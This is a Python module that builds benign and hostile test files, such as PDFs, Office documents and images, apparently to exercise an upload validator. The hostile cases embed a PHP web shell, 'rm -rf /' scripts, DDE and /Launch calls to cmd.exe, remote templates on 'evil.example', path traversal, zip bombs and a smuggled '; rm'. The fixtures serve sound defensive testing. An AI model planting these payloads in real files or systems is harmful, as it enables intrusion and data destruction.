"""Makes good and hostile files, small ones, each a named case for the tests."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OOXML = "application/vnd.openxmlformats-officedocument"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"

# --- PDF -------------------------------------------------------------------------------------


def pdf(pages: int = 1, change: Callable[[PdfWriter], object] | None = None) -> bytes:
    """A PDF of blank pages, changed by ``change`` before it is written."""
    writer = PdfWriter()
    for _number in range(pages):
        writer.add_blank_page(595, 842)
    if change:
        change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF written by hand: catalogue, pages, one page, then ``objects`` from number 4 on."""
    base = (
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
    )
    data, offsets = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, body in enumerate((*base, *objects), 1):
        offsets.append(len(data))
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    place = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(offsets) + 1)
    data += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    data += b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(offsets) + 1, trailer)
    return data + b"startxref\n%d\n%%%%EOF\n" % place


def stream(dictionary: bytes, content: bytes, *, pack: bool = True) -> bytes:
    """A stream object, deflated unless told otherwise."""
    body = zlib.compress(content) if pack else content
    packing = b"/Filter /FlateDecode " if pack else b""
    return b"<< %s %s/Length %d >>\nstream\n%s\nendstream" % (
        dictionary, packing, len(body), body,
    )  # fmt: skip


def object_stream(content: bytes, dictionary: bytes = b"", *, pack: bool = True) -> bytes:
    """An object stream that holds one object, number 9."""
    return stream(b"/Type /ObjStm /N 1 /First 4 " + dictionary, b"9 0 " + content, pack=pack)


def _attach(writer: PdfWriter, name: str, content: bytes) -> None:
    writer.add_attachment(name, content)


def _attach_two(writer: PdfWriter) -> None:
    writer.add_attachment("a.xml", b"<a/>")
    writer.add_attachment("b.exe", b"MZ")


def _open_action(writer: PdfWriter, kind: str, key: str, value: str) -> None:
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)}
    )


def _names_script(writer: PdfWriter) -> None:
    """Let the document run a script when it opens, by the list of named scripts."""
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert(1)"),
        }
    )
    scripts = ArrayObject([TextStringObject("a"), writer._add_object(action)])
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): scripts})}
    )


def _link(writer: PdfWriter) -> None:
    action = {"/S": NameObject("/URI"), "/URI": TextStringObject("https://example.org/")}
    annotation = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 9, 9)]),
            NameObject("/A"): DictionaryObject({NameObject(k): v for k, v in action.items()}),
        }
    )
    page = writer.pages[0]
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annotation)])


def encrypted_pdf(user: str, owner: str) -> bytes:
    """A PDF under a password; an empty ``user`` forbids copying only."""
    return pdf(change=lambda w: w.encrypt(user, owner, algorithm="AES-128"))


def incremental_pdf() -> bytes:
    """A PDF changed once after it was written, as signing programs do."""
    writer = PdfWriter(io.BytesIO(pdf()), incremental=True)
    writer.add_blank_page(595, 842)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def compact_pdf() -> bytes:
    """A PDF whose objects lie in an object stream, as Word and WPS write them."""
    inner = b"<< /Title (report) >>"
    return raw_pdf(object_stream(inner), trailer=b"/Info 9 0 R")


# --- Office ----------------------------------------------------------------------------------

_MAIN = {
    "docx": ("wordprocessingml.document", "word/document.xml", "<w:document/>"),
    "xlsx": ("spreadsheetml.sheet", "xl/workbook.xml", "<workbook/>"),
    "pptx": ("presentationml.presentation", "ppt/presentation.xml", "<p:presentation/>"),
}
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    "{}</Relationships>"
)


def relationship(kind: str, target: str, *, external: bool = True) -> bytes:
    """A relations part with one relation."""
    mode = ' TargetMode="External"' if external else ""
    type_ = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}"
    return _RELS.format(f'<Relationship Id="r1" Type="{type_}" Target="{target}"{mode}/>').encode()


def office(
    kind: str = "docx",
    parts: dict[str, bytes] | None = None,
    *,
    main_type: str = "",
    packing: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A minimal Office file with further parts."""
    type_, main, text = _MAIN[kind]
    declared = main_type or f"{OOXML}.{type_}.main+xml"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main}" ContentType="{declared}"/></Types>'
    )
    content = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": relationship("officeDocument", main, external=False),
        main: text.encode(),
        **(parts or {}),
    }
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", packing) as archive:
        for name, body in content.items():
            archive.writestr(name, body)
    return target.getvalue()


def workbook(rows: int = 20, *, chart: bool = False) -> bytes:
    """A workbook as openpyxl writes it."""
    book = Workbook()
    sheet = book.create_sheet("名单")
    for number in range(rows):
        sheet.append([f"单位{number}", number])
    if chart:
        bars = BarChart()
        bars.add_data(Reference(sheet, min_col=2, min_row=1, max_row=rows))
        sheet.add_chart(bars, "D2")
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def bomb(megabytes: int) -> bytes:
    """A small .docx that unpacks to many megabytes of one part."""
    return office("docx", {"word/media/image1.bmp": b"\0" * (megabytes * 1024 * 1024)})


def lying_bomb() -> bytes:
    """A .docx whose directory claims that a huge part is small."""
    data = bytearray(bomb(300))
    real, claimed = struct.pack("<I", 300 * 1024 * 1024), struct.pack("<I", 1000)
    while (place := data.find(real)) >= 0:
        data[place : place + 4] = claimed
    return bytes(data)


def overlapping_bomb() -> bytes:
    """A .docx whose directory names the same packed bytes many times."""
    target = io.BytesIO(office("docx", {"word/media/image1.bmp": b"\0" * 2_000_000}))
    with zipfile.ZipFile(target, "a") as archive:
        first = archive.getinfo("word/media/image1.bmp")
        for number in range(2, 60):
            copy = zipfile.ZipInfo(f"word/media/image{number}.bmp")
            for field in (
                "header_offset", "compress_size", "file_size", "CRC", "compress_type", "flag_bits",
            ):  # fmt: skip
                setattr(copy, field, getattr(first, field))
            archive.filelist.append(copy)
            archive.NameToInfo[copy.filename] = copy
        archive._didModify = True  # type: ignore[attr-defined]
    return target.getvalue()


def encrypted_entry() -> bytes:
    """A .docx one of whose entries claims to be encrypted."""
    data = bytearray(office("docx", {"word/media/a.png": b"x" * 50}))
    local = data.rfind(b"PK\x03\x04")
    central = data.rfind(b"PK\x01\x02")
    data[local + 6] |= 1
    data[central + 8] |= 1
    return bytes(data)


def ole(*streams: str) -> bytes:
    """The beginning of an OLE container that names these streams."""
    names = b"".join(name.encode("utf-16-le").ljust(64, b"\0") for name in streams)
    return OLE + b"\0" * 504 + names + b"\0" * 1024


# --- pictures --------------------------------------------------------------------------------


def picture(kind: str = "PNG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    """A picture of one colour."""
    target = io.BytesIO()
    Image.new(str(options.pop("mode", "RGB")), size, 0).save(target, kind, **options)
    return target.getvalue()


def png_of_size(width: int, height: int) -> bytes:
    """A PNG whose header claims a size; its content is a few bytes."""

    def chunk(name: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )  # fmt: skip


def png_with_text() -> bytes:
    """A PNG with a description, as screenshot programs write it."""
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Software", "截图")
    return picture("PNG", pnginfo=notes)


def zip_of(**parts: bytes) -> bytes:
    """A plain zip."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return target.getvalue()


def photo_with_film() -> bytes:
    """A telephone's picture with a short film after its end mark."""
    return picture("JPEG") + b"\0\0\0\x18ftypmp42" + b"\0\1\2\3" * 5_000


# --- the cases -------------------------------------------------------------------------------


def good() -> dict[str, tuple[str, bytes]]:
    """Files people really hand in: case → (name, bytes)."""
    embedded = workbook()
    cases: dict[str, tuple[str, bytes]] = {
        "plain pdf": ("申报书.pdf", pdf()),
        "long pdf": ("总结报告.pdf", pdf(120)),
        "upper-case ending": ("扫描件.PDF", pdf()),
        "pdf with a link": ("综述.pdf", pdf(change=_link)),
        "pdf with bookmarks": ("论文集.pdf", pdf(3, lambda w: w.add_outline_item(title="一", page_number=2))),
        "pdf with data about it": ("报告.pdf", pdf(change=lambda w: w.add_metadata({"/Title": "报告"}))),
        "pdf of an invoice with xml": ("发票.pdf", pdf(change=lambda w: _attach(w, "invoice.xml", b"<?xml version='1.0'?><a/>"))),
        "pdf with data of the portal": ("决算表.pdf", pdf(change=lambda w: _attach(w, "data.json", b'{"number": "SK-1"}'))),
        "signed later": ("盖章件.pdf", incremental_pdf()),
        "pdf with object streams": ("WPS导出.pdf", compact_pdf()),
        "pdf with spaces at the end": ("空白.pdf", pdf() + b"\r\n   \r\n"),
        "pdf with padding": ("填充.pdf", pdf() + b"\0" * 700),
        "pdf opening on page one": ("首页.pdf", raw_pdf(b"<< /OpenAction [3 0 R /Fit] >>")),
        "pdf with escaped font name": ("字体.pdf", raw_pdf(b"<< /BaseFont /Sim#53un#2CBold >>")),
        "pdf with a form": ("表单.pdf", raw_pdf(b"<< /AcroForm << /Fields [] >> >>")),
        "pdf whose text speaks of scripts": ("讲义.pdf", raw_pdf(stream(b"", b"(JavaScript and Launch)"))),
        "docx": ("申报书.docx", office("docx")),
        "docx stored": ("存储.docx", office("docx", packing=zipfile.ZIP_STORED)),
        "docx with picture": ("图文.docx", office("docx", {"word/media/image1.png": picture()})),
        "docx with formula": ("公式.docx", office("docx", {"word/embeddings/oleObject1.bin": ole("Equation Native", "CompObj")})),
        "docx with a table of Excel": ("嵌表.docx", office("docx", {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": embedded})),
        "docx with link": ("链接.docx", office("docx", {"word/_rels/document.xml.rels": relationship("hyperlink", "https://example.org/")})),
        "docx with local template": ("模板.docx", office("docx", {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "file:///C:\\Templates\\Normal.dotm")})),
        "docx with own data": ("数据.docx", office("docx", {"customXml/item1.xml": b"<a/>", "docProps/app.xml": b"<a/>"})),
        "docx with fonts": ("字体.docx", office("docx", {"word/fonts/font1.odttf": b"x" * 99})),
        "docx with chart": ("图表.docx", office("docx", {"word/charts/chart1.xml": b"<c/>", "word/embeddings/Microsoft_Excel_Worksheet.xlsx": embedded})),
        "docx with much text": ("长文.docx", office("docx", {"word/footnotes.xml": "<w:t>科学技术</w:t>".encode() * 40_000})),
        "xlsx": ("决算表.xlsx", workbook()),
        "big xlsx": ("名单.xlsx", workbook(4_000)),
        "xlsx with chart": ("统计.xlsx", workbook(chart=True)),
        "xlsx with printer": ("打印.xlsx", office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"P\0r\0"})),
        "pptx": ("汇报.pptx", office("pptx")),
        "pptx with film": ("演示.pptx", office("pptx", {"ppt/media/media1.mp4": b"\0\0\0\x18ftypmp42" + b"x" * 999})),
        "jpg": ("照片.jpg", picture("JPEG")),
        "jpeg ending": ("照片.JPEG", picture("JPEG")),
        "grey jpg": ("黑白.jpg", picture("JPEG", mode="L")),
        "progressive jpg": ("渐进.jpg", picture("JPEG", progressive=True)),
        "jpg in print colours": ("四色.jpg", picture("JPEG", mode="CMYK")),
        "jpg with camera's data": ("相机.jpg", picture("JPEG", exif=_exif())),
        "jpg with film": ("动态照片.jpg", photo_with_film()),
        "big jpg": ("大图.jpg", picture("JPEG", (9000, 6000))),
        "png": ("截图.png", picture("PNG")),
        "png with transparency": ("透明.png", picture("PNG", mode="RGBA")),
        "png of few colours": ("图标.png", picture("PNG", mode="P")),
        "png with words": ("说明.png", png_with_text()),
        "name without harm": ("2024年 第十三届（年会）—申报书 v2.0.pdf", pdf()),
    }  # fmt: skip
    return cases


def _exif() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "Camera"
    return exif.tobytes()


def hostile() -> dict[str, tuple[str, bytes]]:
    """Files that must never come in: case → (name, bytes)."""
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    macro = {"word/vbaProject.bin": ole("_VBA_PROJECT")}
    cases: dict[str, tuple[str, bytes]] = {
        "empty": ("空.pdf", b""),
        "program": ("安装.pdf", b"MZ\x90\0" + b"\0" * 500),
        "program under its name": ("安装.exe", b"MZ\x90\0" + b"\0" * 500),
        "linux program": ("a.pdf", b"\x7fELF" + b"\0" * 500),
        "script": ("a.pdf", b"#!/bin/sh\nrm -rf /\n"),
        "web page": ("a.pdf", b"<html><script>alert(1)</script></html>"),
        "svg": ("图.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "svg called png": ("图.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        "gif": ("动.gif", b"GIF89a" + b"\0" * 100),
        "zip": ("材料.zip", zip_of(a=b"x")),
        "zip called docx": ("材料.docx", zip_of(a=b"x")),
        "jar called docx": ("材料.docx", zip_of(**{"META-INF/MANIFEST.MF": b"Main-Class: x"})),
        "epub called docx": ("书.docx", zip_of(mimetype=b"application/epub+zip")),
        "rar": ("材料.rar", b"Rar!\x1a\x07\x00" + b"\0" * 100),
        "eicar": ("测试.pdf", EICAR),
        "eicar in a pdf": ("测试.pdf", raw_pdf(stream(b"", EICAR, pack=False))),
        "eicar in a docx": ("测试.docx", office("docx", {"word/media/a.png": EICAR})),
        "eicar after a picture": ("测试.png", picture() + EICAR),
        "png called pdf": ("图.pdf", picture()),
        "pdf called docx": ("文.docx", pdf()),
        "docx called xlsx": ("表.xlsx", office("docx")),
        "pdf called exe": ("文.exe", pdf()),
        "pdf turned round": ("文\u202efdp.exe", pdf()),
        "cut-off pdf": ("断.pdf", pdf()[:-200]),
        "pdf after junk": ("前.pdf", b"GIF89a" + pdf()),
        "pdf with password": ("密.pdf", encrypted_pdf("secret", "secret")),
        "pdf against copying": ("禁.pdf", encrypted_pdf("", "owner")),
        "pdf with script": ("脚.pdf", pdf(change=_names_script)),
        "pdf that opens with script": ("脚.pdf", pdf(change=lambda w: _open_action(w, "/JavaScript", "/JS", "x"))),
        "pdf that starts a program": ("启.pdf", pdf(change=lambda w: _open_action(w, "/Launch", "/F", "cmd.exe"))),
        "pdf that sends its form": ("送.pdf", raw_pdf(b"<< /S /SubmitForm /F (http://x) >>")),
        "pdf with film player": ("影.pdf", raw_pdf(b"<< /Subtype /RichMedia >>")),
        "pdf with xfa": ("表.pdf", raw_pdf(b"<< /AcroForm << /XFA [(a) 3 0 R] >> >>")),
        "pdf with escaped script": ("藏.pdf", raw_pdf(script.replace(b"/JavaScript", b"/Java#53cript"))),
        "pdf with packed script": ("藏.pdf", raw_pdf(object_stream(script))),
        "pdf with twice packed script": ("藏.pdf", raw_pdf(object_stream(script, b"/Filter [/ASCIIHexDecode] "))),
        "pdf with script under hex": ("藏.pdf", raw_pdf(stream(b"/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode", b"9 0 " + script.hex().encode(), pack=False))),
        "pdf with untyped packed script": ("藏.pdf", raw_pdf(stream(b"/N 1 /First 4 ", b"9 0 " + script))),
        "pdf with padded dictionary": ("藏.pdf", raw_pdf(object_stream(script, b" " * 6_000))),
        "pdf with false end in a remark": ("藏.pdf", raw_pdf(object_stream(script, b"%endobj\n"))),
        "pdf with escaped object stream": ("藏.pdf", raw_pdf(object_stream(script).replace(b"/ObjStm", b"/Obj#53tm"))),
        "pdf with broken object stream": ("藏.pdf", raw_pdf(object_stream(script)[:-40] + b"\nendstream")),
        "pdf with program attached": ("附.pdf", pdf(change=lambda w: _attach(w, "a.exe", b"MZ\x90\0" * 50))),
        "pdf with a command in data": ("附.pdf", pdf(change=lambda w: _attach(w, "data.json", b'{"a": 1}; rm'))),
        "pdf with zip attached": ("附.pdf", pdf(change=lambda w: _attach(w, "a.zip", zip_of(a=b"x")))),
        "pdf with xml and program": ("附.pdf", pdf(change=lambda w: _attach_two(w))),
        "pdf with file as a note": ("附.pdf", raw_pdf(b"<< /Subtype /FileAttachment /FS 5 0 R >>")),
        "pdf that bursts": ("爆.pdf", raw_pdf(object_stream(b" " * (64 * 1024 * 1024)))),
        "pdf that is a zip": ("双.pdf", pdf() + zip_of(a=b"x")),
        "pdf that is a web page": ("双.pdf", pdf() + b"<html><script>alert(1)</script></html>"),
        "docx with macro": ("宏.docx", office("docx", macro)),
        "docm": ("宏.docm", office("docx", macro, main_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
        "docm called docx": ("宏.docx", office("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml")),
        "xlsm called xlsx": ("宏.xlsx", office("xlsx", {"xl/vbaProject.bin": b"x"})),
        "old macros in xlsx": ("宏.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<a/>"})),
        "docx with macro in a chart": ("宏.docx", office("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": b"x"})})),
        "docx with macro in an object": ("宏.docx", office("docx", {"word/embeddings/oleObject1.bin": ole("_VBA_PROJECT")})),
        "docx with packed program": ("附.docx", office("docx", {"word/embeddings/oleObject1.bin": ole("\x01Ole10Native")})),
        "docx with program inside": ("附.docx", office("docx", {"word/embeddings/a.exe": b"MZ"})),
        "docx with program as picture": ("附.docx", office("docx", {"word/media/image1.png": b"MZ\x90\0" * 20})),
        "docx in docx in docx": ("套.docx", office("docx", {"word/embeddings/a.docx": office("docx", {"word/embeddings/b.xlsx": workbook()})})),
        "docx with controls": ("控.docx", office("docx", {"word/activeX/activeX1.xml": b"<a/>"})),
        "docx with remote template": ("模.docx", office("docx", {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "http://evil.example/a.dotm")})),
        "docx with remote share": ("模.docx", office("docx", {"word/_rels/settings.xml.rels": relationship("attachedTemplate", "\\\\evil.example\\a.dotm")})),
        "docx with remote object": ("链.docx", office("docx", {"word/_rels/document.xml.rels": relationship("oleObject", "https://evil.example/a.html")})),
        "docx with remote picture": ("链.docx", office("docx", {"word/_rels/document.xml.rels": relationship("image", "https://evil.example/a.png")})),
        "docx with entities": ("笑.docx", office("docx", {"word/footnotes.xml": b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'})),
        "docx with entities in utf-16": ("笑.docx", office("docx", {"word/footnotes.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16")})),
        "docx with dde": ("令.docx", office("docx", {"word/footnotes.xml": b"<w:instrText> DDEAUTO c:\\\\cmd.exe </w:instrText>"})),
        "xlsx with dde": ("令.xlsx", office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"})),
        "docx that bursts": ("爆.docx", bomb(300)),
        "docx that lies about its size": ("爆.docx", lying_bomb()),
        "docx that overlaps": ("爆.docx", overlapping_bomb()),
        "docx of many parts": ("多.docx", office("docx", {f"word/media/i{n}.png": b"" for n in range(4_500)})),
        "docx that climbs out": ("爬.docx", office("docx", {"../../etc/cron.d/x.xml": b"x"})),
        "docx with one name twice": ("重.docx", office("docx", {"WORD/document.xml": b"<a/>"})),
        "docx with locked entry": ("密.docx", encrypted_entry()),
        "docx packed oddly": ("怪.docx", office("docx", packing=zipfile.ZIP_LZMA)),
        "docx with something behind": ("尾.docx", office("docx") + b"MZ\x90\0" * 10),
        "docx cut off": ("断.docx", office("docx", {"word/media/a.png": picture()})[:-60]),
        "docx broken inside": ("坏.docx", _broken_inside()),
        "docx that is a pdf": ("双.docx", _docx_and_pdf()),
        "docx under a password": ("密.docx", ole("EncryptedPackage", "EncryptionInfo")),
        "old doc": ("旧.doc", ole("WordDocument")),
        "old doc called docx": ("旧.docx", ole("WordDocument")),
        "picture of too many pixels": ("大.png", png_of_size(60_000, 60_000)),
        "picture that is a zip": ("双.png", picture() + zip_of(a=b"x")),
        "photo that is a zip": ("双.jpg", picture("JPEG") + zip_of(a=b"x")),
        "picture that is a web page": ("双.png", picture() + b"<script>alert(1)</script>"),
        "photo with php": ("双.jpg", picture("JPEG", comment=b"<?php system($_GET[0]); ?>")),
        "photo that is a pdf": ("双.jpg", picture("JPEG", comment=b"%PDF-1.4 ")),
        "cut-off picture": ("断.png", picture(size=(400, 400))[:-30]),
        "cut-off photo": ("断.jpg", picture("JPEG", (400, 400))[:-30]),
        "picture in name only": ("假.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 200),
    }  # fmt: skip
    return cases


def _broken_inside() -> bytes:
    """A .docx one part of which was changed after packing."""
    data = bytearray(office("docx", {"word/media/a.bmp": b"abc" * 50}, packing=zipfile.ZIP_STORED))
    place = data.find(b"abcabc")
    data[place] ^= 1
    return bytes(data)


def _docx_and_pdf() -> bytes:
    """A zip whose first entry carries a PDF header where PDF readers look for it."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("word/media/a.bmp", pdf())
        with zipfile.ZipFile(io.BytesIO(office("docx"))) as whole:
            for name in whole.namelist():
                archive.writestr(name, whole.read(name))
    return target.getvalue()


def opens(data: bytes) -> bool:
    """Tell whether a PDF made here is one a reader opens: samples must not be refused as broken."""
    return len(PdfReader(io.BytesIO(data)).pages) > 0
